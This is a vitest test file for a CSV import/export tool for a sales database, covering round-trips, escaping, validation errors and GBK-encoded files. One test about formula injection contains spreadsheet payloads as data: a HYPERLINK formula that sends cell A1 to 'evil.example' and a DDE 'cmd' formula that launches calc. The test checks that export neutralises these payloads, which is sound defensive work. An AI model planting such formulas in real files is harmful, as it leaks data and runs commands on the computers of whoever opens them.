import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cpSync, mkdtempSync, readdirSync, readFileSync, writeFileSync, appendFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Db } from '../../db/index.ts';
import { importDir, ImportFailed, type ImportOptions } from '../../src/importing/import-dir.ts';
import { exportDir } from '../../src/importing/export-dir.ts';
import { emptyDb, sampleDb } from '../helpers/db.ts';
import { SAMPLE_DIR, TEST_TZ } from '../helpers/paths.ts';

const tmp = () => mkdtempSync(join(tmpdir(), 'kam-imp-'));

function sampleCopy(): string {
  const dir = tmp();
  cpSync(SAMPLE_DIR, dir, { recursive: true });
  return dir;
}

function writeCsv(dir: string, file: string, lines: string[]) {
  writeFileSync(join(dir, file), lines.join('\n') + '\n');
}

async function problemsOf(db: Db, dir: string, opts: ImportOptions = {}): Promise<string[]> {
  try {
    await importDir(db, dir, TEST_TZ, opts);
  } catch (e) {
    if (e instanceof ImportFailed) return e.problems;
    throw e;
  }
  return [];
}

function readExport(dir: string): Record<string, string> {
  return Object.fromEntries(readdirSync(dir).map((f) => [f, readFileSync(join(dir, f), 'utf8')]));
}

describe('kam import on the sample data', () => {
  let db: Db;
  beforeAll(async () => {
    db = await emptyDb();
  });
  afterAll(() => db.close());

  it('imports every file, then reports every row unchanged on a second run', async () => {
    const first = await importDir(db, SAMPLE_DIR, TEST_TZ);
    const byFile = Object.fromEntries(first.map((c) => [c.file, c]));
    expect(byFile['accounts.csv']).toMatchObject({ rows: 8, inserted: 8, updated: 0, unchanged: 0 });
    expect(byFile['interactions.csv']).toMatchObject({ rows: 20, inserted: 20 });
    const second = await importDir(db, SAMPLE_DIR, TEST_TZ);
    for (const c of second) expect(c).toMatchObject({ inserted: 0, updated: 0, unchanged: c.rows });
  });

  it('counts a changed row as changed', async () => {
    const dir = tmp();
    writeCsv(dir, 'accounts.csv', ['id,name,owner_id,tier', 'A600,兴业建材有限公司,u_zhang,B']);
    const [c] = await importDir(db, dir, TEST_TZ);
    expect(c).toMatchObject({ rows: 1, inserted: 0, updated: 1, unchanged: 0 });
    const r = await db.query<{ tier: string; aliases: string[] }>("SELECT tier, aliases FROM accounts WHERE id = 'A600'");
    expect(r.rows[0]).toEqual({ tier: 'B', aliases: [] });
  });
});

describe('export round trip', () => {
  it('export → import into an empty database → export is byte-identical, rows sorted by id', async () => {
    const a = tmp();
    const b = tmp();
    const src = await sampleDb();
    await exportDir(src, a, TEST_TZ);
    await src.close();
    const dst = await emptyDb();
    await importDir(dst, a, TEST_TZ);
    await exportDir(dst, b, TEST_TZ);
    await dst.close();
    expect(readExport(b)).toEqual(readExport(a));
    const users = readFileSync(join(a, 'users.csv'), 'utf8').trim().split('\n').slice(1).map((l) => l.split(',')[0]);
    expect(users).toEqual([...users].sort());
    expect(readFileSync(join(a, 'interactions.csv'), 'utf8')).toContain('I016,A400,u_zhang,2026-09-02T10:00:00+08:00,visit,C4001,');
    expect(readFileSync(join(a, 'budgets.csv'), 'utf8')).toContain('A100,2026,20000000\n');
  });
});

describe('cells the server path sends through COPY', () => {
  it('keeps tabs, backslashes, line breaks, a literal \\N and empty cells exactly: import → export → import → export is identical', async () => {
    const a = sampleCopy();
    const tricky = [
      'id,account_id,user_id,occurred_at,type,contact_ids,summary,next_step,next_step_due',
      'I901,A100,u_zhang,2026-09-01T10:00:00+08:00,visit,C1002;C1003,"tab\there, back\\slash \\N and \\t, ""quoted""\nsecond line\r\nthird",\\N,',
      'I902,A100,u_zhang,2026-09-02T10:00:00+08:00,call,,"ends with a backslash\\",,2026-09-09',
    ];
    appendFileSync(join(a, 'interactions.csv'), tricky.slice(1).join('\n') + '\n');
    const db = await emptyDb();
    await importDir(db, a, TEST_TZ);
    const r = await db.query<{ id: string; summary: string; next_step: string | null; contact_ids: string[] }>(
      "SELECT id, summary, next_step, contact_ids FROM interactions WHERE id IN ('I901', 'I902') ORDER BY id",
    );
    expect(r.rows).toEqual([
      { id: 'I901', summary: 'tab\there, back\\slash \\N and \\t, "quoted"\nsecond line\r\nthird', next_step: '\\N', contact_ids: ['C1002', 'C1003'] },
      { id: 'I902', summary: 'ends with a backslash\\', next_step: null, contact_ids: [] },
    ]);
    const b = tmp();
    const c = tmp();
    await exportDir(db, b, TEST_TZ);
    await db.close();
    const again = await emptyDb();
    await importDir(again, b, TEST_TZ);
    await exportDir(again, c, TEST_TZ);
    await again.close();
    expect(readExport(c)).toEqual(readExport(b));
  });
});

describe('formula injection (CSV injection)', () => {
  it("export prefixes formula-like cells with ' and import reads them back: export → import → export is byte-identical", async () => {
    const summaries = ['=HYPERLINK("https://evil.example/?d="&A1,"详情")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', "'=already quoted", "''+twice", '\t=tab first'];
    const rows = summaries.map((_, i) => `I9${i},A100,u_zhang,2026-11-0${i + 1}T10:00:00+08:00,visit,,placeholder,,`);
    const dir = tmp();
    writeCsv(dir, 'interactions.csv', ['id,account_id,user_id,occurred_at,type,contact_ids,summary,next_step,next_step_due', ...rows]);
    const src = await sampleDb();
    const dst = await emptyDb();
    try {
      await importDir(src, dir, TEST_TZ);
      // Stored as a chat note would store them (an import reads a leading ' as neutralised).
      for (const [i, summary] of summaries.entries()) await src.query('UPDATE interactions SET summary = $1 WHERE id = $2', [summary, `I9${i}`]);
      const a = tmp();
      await exportDir(src, a, TEST_TZ);
      const exported = readFileSync(join(a, 'interactions.csv'), 'utf8');
      expect(exported).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""详情"")"`);
      expect(exported).toContain("I92,A100,u_zhang,2026-11-03T10:00:00+08:00,visit,,'-2+3,,");
      expect(exported).toContain(",'@SUM(A1:A9),");
      expect(exported).toContain(",''=already quoted,");
      expect(exported).toContain(",'\t=tab first,");
      await importDir(dst, a, TEST_TZ);
      const stored = await dst.query<{ summary: string }>("SELECT summary FROM interactions WHERE id LIKE 'I9_' ORDER BY id");
      expect(stored.rows.map((r) => r.summary)).toEqual(summaries);
      const b = tmp();
      await exportDir(dst, b, TEST_TZ);
      expect(readExport(b)).toEqual(readExport(a));
    } finally {
      await src.close();
      await dst.close();
    }
  });
});

describe('import errors', () => {
  let db: Db;
  beforeAll(async () => {
    db = await sampleDb();
  });
  afterAll(() => db.close());

  it('reports a bad row in each of three files as FILE:LINE and writes nothing', async () => {
    const dir = sampleCopy();
    const before = tmp();
    await exportDir(db, before, TEST_TZ);
    appendFileSync(join(dir, 'accounts.csv'), 'A900,新客户,,,,,X,,u_zhang,2024-01-01\n');
    appendFileSync(join(dir, 'orders.csv'), 'O-9,A100,2026-13-01,100,x\n');
    appendFileSync(join(dir, 'tickets.csv'), 'T9,A100,complaint,high,2026-11-01T10:00:00+08:00,,\n');
    writeFileSync(join(dir, 'contacts.csv'), readFileSync(join(dir, 'contacts.csv'), 'utf8').replace('C6001,A600,唐宁', 'C6001,A999,唐宁'));
    const problems = await problemsOf(db, dir);
    expect(problems).toEqual([
      'accounts.csv:10: "tier" must be one of S, A, B, C, not "X"',
      'contacts.csv:13: "account_id" refers to account "A999", which is neither in this import nor in the database',
      'orders.csv:15: "order_date": "2026-13-01" is not an ISO 8601 date (YYYY-MM-DD)',
    ]);
    const after = tmp();
    await exportDir(db, after, TEST_TZ);
    expect(readExport(after)).toEqual(readExport(before));
  });

  it('refuses rows with the wrong number of fields (a stray comma, a lost field) and writes nothing', async () => {
    const dir = tmp();
    const before = await db.query<{ n: number }>('SELECT count(*)::int AS n FROM orders');
    writeCsv(dir, 'orders.csv', ['id,account_id,order_date,amount,product', 'O81,A100,2026-01-01,5,pump', 'O82,A100,2026-01-01,9,000,pump', 'O83,A100,2026-01-01,5', '"O84","A100","2026-01-01","5","multi\nline",x']);
    expect(await problemsOf(db, dir)).toEqual([
      'orders.csv:3: expected 5 fields, found 6',
      'orders.csv:4: expected 5 fields, found 4',
      'orders.csv:6: expected 5 fields, found 6',
    ]);
    const after = await db.query<{ n: number }>('SELECT count(*)::int AS n FROM orders');
    expect(after.rows[0].n).toBe(before.rows[0].n);
  });

  it('reports unknown and missing columns', async () => {
    const dir = tmp();
    writeCsv(dir, 'orders.csv', ['id,account_id,amount,colour', 'O1,A100,5,red']);
    expect(await problemsOf(db, dir)).toEqual([
      'orders.csv:1: unknown column "colour" (expected: id, account_id, order_date, amount, product)',
      'orders.csv:1: missing required column "order_date"',
    ]);
  });

  it('reports missing required values, bad numbers, bad date-times and bad booleans', async () => {
    const dir = tmp();
    writeCsv(dir, 'orders.csv', ['id,account_id,order_date,amount', 'O1,A100,2026-01-01,', 'O2,A100,2026-01-01,1.2万']);
    writeCsv(dir, 'tickets.csv', ['id,account_id,kind,opened_at', 'T1,A100,complaint,yesterday']);
    writeCsv(dir, 'contacts.csv', ['id,account_id,name,active', 'C1,A100,张三,maybe']);
    expect(await problemsOf(db, dir)).toEqual([
      'contacts.csv:2: "active" must be true or false, not "maybe"',
      'orders.csv:2: missing required value for "amount"',
      'orders.csv:3: "amount": "1.2万" is not a plain number (yuan, e.g. 1200000)',
      'tickets.csv:2: "opened_at": "yesterday" is not an ISO 8601 date or date-time',
    ]);
  });

  it('reports numbers too large for their columns with their lines instead of failing the import', async () => {
    const dir = tmp();
    writeCsv(dir, 'budgets.csv', ['account_id,year,amount', 'A100,99999999999,5', 'A200,2026,1234567890123456', 'A300,2026,123456789012345.5']);
    expect(await problemsOf(db, dir)).toEqual([
      'budgets.csv:2: "year": "99999999999" is out of range (-2147483648 to 2147483647)',
      'budgets.csv:3: "amount": "1234567890123456" is too large (at most 15 digits before the decimal point)',
    ]);
  });

  it('reports a NUL character in a cell with its line instead of failing the import', async () => {
    const dir = tmp();
    writeCsv(dir, 'orders.csv', ['id,account_id,order_date,amount,product', 'O1,A100,2026-01-01,5,pump\u0000x', 'O2,A100,2026-01-01,5,pump']);
    expect(await problemsOf(db, dir)).toEqual(['orders.csv:2: "product" contains a NUL character (byte 0), which cannot be stored']);
  });

  it('takes a file with a header and no rows (an empty table\'s export), and still checks its header', async () => {
    const dir = tmp();
    writeCsv(dir, 'projects.csv', ['id,account_id,name,started_at,status']);
    expect(await importDir(db, dir, TEST_TZ)).toEqual([{ file: 'projects.csv', rows: 0, inserted: 0, updated: 0, unchanged: 0, encoding: 'utf-8' }]);
    writeCsv(dir, 'projects.csv', ['id,account_id,title']);
    expect(await problemsOf(db, dir)).toEqual([
      'projects.csv:1: unknown column "title" (expected: id, account_id, name, started_at, status)',
      'projects.csv:1: missing required column "name"',
    ]);
    writeFileSync(join(dir, 'projects.csv'), '');
    expect(await problemsOf(db, dir)).toEqual(['projects.csv:1: the file is empty (a header row is required)']);
    writeFileSync(join(dir, 'projects.csv'), 'id,"name\n');
    expect(await problemsOf(db, dir)).toEqual([expect.stringMatching(/^projects\.csv:1: not valid CSV: Quote Not Closed/)]);
  });

  it('round-trips a database with empty tables: their exports are headers only', async () => {
    const only = tmp();
    for (const f of ['users.csv', 'accounts.csv']) cpSync(join(SAMPLE_DIR, f), join(only, f));
    const source = await emptyDb();
    const target = await emptyDb();
    try {
      await importDir(source, only, TEST_TZ);
      const a = tmp();
      const b = tmp();
      await exportDir(source, a, TEST_TZ);
      expect(readFileSync(join(a, 'projects.csv'), 'utf8')).toBe('id,account_id,name,started_at,status\n');
      const counts = await importDir(target, a, TEST_TZ);
      expect(counts.find((c) => c.file === 'projects.csv')).toMatchObject({ rows: 0 });
      await exportDir(target, b, TEST_TZ);
      expect(readExport(b)).toEqual(readExport(a));
    } finally {
      await source.close();
      await target.close();
    }
  });

  it('skips rows whose cells are all empty (what Excel leaves of cleared rows), keeping line numbers', async () => {
    const dir = tmp();
    writeCsv(dir, 'orders.csv', ['id,account_id,order_date,amount,product', ',,,,', ' , ,,,', 'O3,A100,2026-01-01,5,pump', ',,,,', 'O5,,2026-01-01,5,pump']);
    expect(await problemsOf(db, dir)).toEqual(['orders.csv:6: missing required value for "account_id"']);
  });

  it('reports duplicate ids within a file and dangling references in lists', async () => {
    const dir = tmp();
    writeCsv(dir, 'interactions.csv', [
      'id,account_id,user_id,occurred_at,type,contact_ids,summary',
      'X1,A100,u_zhang,2026-11-01,visit,C1001;C0000,拜访',
      'X1,A100,u_zhang,2026-11-02,visit,,拜访',
      'X2,A100,u_nobody,2026-11-02,visit,,拜访',
    ]);
    expect(await problemsOf(db, dir)).toEqual([
      'interactions.csv:2: "contact_ids" refers to contact "C0000", which is neither in this import nor in the database',
      'interactions.csv:3: duplicate id "X1" (first on line 2)',
      'interactions.csv:4: "user_id" refers to user "u_nobody", which is neither in this import nor in the database',
    ]);
  });

  it('reports manager and parent cycles, including cycles through stored rows', async () => {
    const dir = tmp();
    writeCsv(dir, 'users.csv', ['id,name,role,manager_id', 'u_chen,陈志强,manager,u_zhang']);
    writeCsv(dir, 'accounts.csv', ['id,name,owner_id,parent_id', 'N1,甲,u_li,N2', 'N2,乙,u_li,N1', 'N3,丙,u_li,N9']);
    expect(await problemsOf(db, dir)).toEqual([
      'users.csv:2: "manager_id" makes a cycle: u_chen is its own ancestor',
      'accounts.csv:4: "parent_id" refers to account "N9", which is neither in this import nor in the database',
      'accounts.csv:2: "parent_id" makes a cycle: N1 is its own ancestor',
      'accounts.csv:3: "parent_id" makes a cycle: N2 is its own ancestor',
    ]);
  });

  it('accepts files in any subset, referring to rows imported earlier or later in the same import', async () => {
    const dir = tmp();
    writeCsv(dir, 'contacts.csv', ['id,account_id,name', 'C9001,A901,新联系人']);
    writeCsv(dir, 'accounts.csv', ['id,name,owner_id,parent_id', 'A901,新子公司,u_li,A900', 'A900,新集团,u_li,']);
    const counts = await importDir(db, dir, TEST_TZ);
    expect(counts.map((c) => [c.file, c.inserted])).toEqual([['accounts.csv', 2], ['contacts.csv', 1]]);
  });
});

describe('files saved in another encoding', () => {
  // "西山矿业集团" in GBK, as Excel's "CSV" on Chinese Windows saves it.
  const XISHAN_GBK = Buffer.from('cef7c9bdbff3d2b5bcafcdc5', 'hex');
  const accountsCsv = (name: Buffer) => Buffer.concat([Buffer.from('id,name,owner_id,tier\nA200,'), name, Buffer.from(',u_li,A\n')]);
  const stored = async () => (await db.query<{ name: string; tier: string }>("SELECT name, tier FROM accounts WHERE id = 'A200'")).rows[0];
  let db: Db;
  beforeAll(async () => {
    db = await sampleDb();
  });
  afterAll(() => db.close());

  it('reports a GBK file once, with its line, and keeps what is stored', async () => {
    const dir = tmp();
    writeFileSync(join(dir, 'accounts.csv'), Buffer.concat([accountsCsv(XISHAN_GBK), Buffer.from('A300,'), XISHAN_GBK, Buffer.from(',u_li,B\n')]));
    const problems = await problemsOf(db, dir);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(/^accounts\.csv:2: "name" holds bytes that are not UTF-8 .*GBK.*--encoding gbk$/);
    expect(await stored()).toEqual({ name: '西山矿业集团', tier: 'S' });
  });

  it('reads it with encoding gbk, and a UTF-8 file beside it as UTF-8', async () => {
    const dir = tmp();
    writeFileSync(join(dir, 'accounts.csv'), accountsCsv(XISHAN_GBK));
    cpSync(join(SAMPLE_DIR, 'users.csv'), join(dir, 'users.csv'));
    const counts = await importDir(db, dir, TEST_TZ, { encoding: 'gbk' });
    expect(counts.map((c) => [c.file, c.encoding, c.updated])).toEqual([['users.csv', 'utf-8', 0], ['accounts.csv', 'gbk', 1]]);
    expect(await stored()).toEqual({ name: '西山矿业集团', tier: 'A' });
  });

  it('reports bytes that are neither UTF-8 nor GBK', async () => {
    const dir = tmp();
    writeFileSync(join(dir, 'accounts.csv'), accountsCsv(Buffer.from([0x41, 0xff, 0x42])));
    expect(await problemsOf(db, dir, { encoding: 'gbk' })).toEqual([
      'accounts.csv:2: "name" holds bytes that are neither UTF-8 nor GBK (shown as \uFFFD): save the file as "CSV UTF-8"',
    ]);
  });
});
